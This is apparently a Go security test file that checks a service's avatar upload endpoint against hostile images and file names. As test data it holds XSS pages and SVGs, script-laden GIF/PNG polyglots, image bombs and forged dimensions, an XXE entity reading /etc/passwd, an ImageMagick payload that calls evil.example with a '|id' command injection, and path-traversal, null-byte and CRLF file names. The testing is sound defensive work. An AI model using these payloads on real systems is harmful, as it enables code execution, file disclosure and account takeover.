package attack_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"net/url"
	"strings"
	"testing"
)

// httpPNG is a picture of a size.
func httpPNG(width, height int) []byte {
	var out bytes.Buffer
	_ = png.Encode(&out, image.NewPaletted(image.Rect(0, 0, width, height), color.Palette{color.Black})) // into memory: cannot fail
	return out.Bytes()
}

// httpClaim changes the size that a PNG claims to be.
func httpClaim(picture []byte, width, height uint32) []byte {
	picture = bytes.Clone(picture)
	binary.BigEndian.PutUint32(picture[16:], width)
	binary.BigEndian.PutUint32(picture[20:], height)
	binary.BigEndian.PutUint32(picture[29:], crc32.ChecksumIEEE(picture[12:29]))
	return picture
}

// httpGIF is a film of frames of which each is as large as it may be.
func httpGIF(frames int) []byte {
	frame := image.NewPaletted(image.Rect(0, 0, 2000, 2000), color.Palette{color.Black})
	all := &gif.GIF{}
	for range frames {
		all.Image, all.Delay = append(all.Image, frame), append(all.Delay, 1)
	}
	var out bytes.Buffer
	_ = gif.EncodeAll(&out, all) // into memory: cannot fail
	return out.Bytes()
}

// TestHTTPPictures: files that are no pictures, or become too large when they are unpacked. Lost would be the memory of
// everybody else, or, by a page that is served from the service's own origin, every account whose owner opens it.
func TestHTTPPictures(t *testing.T) {
	h := httpOpen(t)
	eve := h.newcomer(t, "eve", "Eve has a long pole")
	for name, content := range map[string][]byte{
		"a page":                        []byte("<html><script>fetch('/api/v1/users/me')</script></html>"),
		"a drawing with a script":       []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
		"a page that begins as a GIF":   []byte("GIF89a/*<script>alert(1)</script>*/=1;"),
		"a page that begins as a PNG":   append([]byte("\x89PNG\r\n\x1a\n"), "<script>alert(1)</script>"...),
		"a program":                     []byte("\x7fELF\x02\x01\x01"),
		"nothing but a beginning":       httpPNG(8, 8)[:40],
		"a bomb of one colour":          httpPNG(4000, 4000),
		"a size that is a lie":          httpClaim(httpPNG(8, 8), 1<<31-1, 1<<31-1),
		"a size that overflows":         httpClaim(httpPNG(8, 8), 1<<16, 1<<16),
		"no size":                       httpClaim(httpPNG(8, 8), 0, 0),
		"a film of one colour":          httpGIF(4),
		"entities that name others":     []byte(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
		"a script for an image program": []byte("push graphic-context\nfill 'url(https://evil.example/\"|id\")'\npop graphic-context"),
	} {
		t.Run(name, func(t *testing.T) {
			h.attack(t, "PATCH", httpUsers+"/me/avatar", httpFile("avatar", "a.png", content), httpBearer(eve.access)).expect(t, 400, "image_invalid")
		})
	}
	if left := h.ImagesLeft(t); left != 0 {
		t.Errorf("%d files were kept", left)
	}
	h.unharmed(t)
}

// TestHTTPFileNames: what a client calls its file. Lost would be a file of the service's, or of its host's.
func TestHTTPFileNames(t *testing.T) {
	h := httpOpen(t)
	for _, name := range []string{"../../latchkey.db", "..\\..\\x.png", "/etc/cron.d/x", "a.html", ".htaccess", "CON", strings.Repeat("a", 4000), "a\r\nX: y"} {
		content := append(httpPNG(4, 4), "<script>alert(1)</script>"...)
		var user struct{ Avatar string }
		h.send(t, "PATCH", httpUsers+"/me/avatar", httpFile("avatar", name, content), httpBearer(h.alice.access)).expect(t, 200, "").data(t, &user)
		stored, err := url.Parse(user.Avatar)
		httpMust(t, err)
		file := strings.TrimPrefix(stored.Path, "/images/")
		if strings.ContainsAny(file, "/\\ ") || !strings.HasSuffix(file, ".png") || len(file) < 20 || strings.Contains(file, h.alice.ID) {
			t.Errorf("%q is kept at %s", name, stored)
		}
		a := h.send(t, "GET", stored.Path).expect(t, 200, "")
		if a.header.Get("Content-Type") != "image/png" || bytes.Contains(a.body, []byte("script")) {
			t.Errorf("%q is served as %s", name, a.header)
		}
	}
	h.attack(t, "PATCH", httpUsers+"/me/avatar", httpFile("avatar", "a.png\x00.html", httpPNG(4, 4)), httpBearer(h.alice.access)).expect(t, 400, "malformed_body")
	h.send(t, "GET", "/images/"+fmt.Sprintf("%032x.png", 0)).expect(t, 404, "not_found")
}
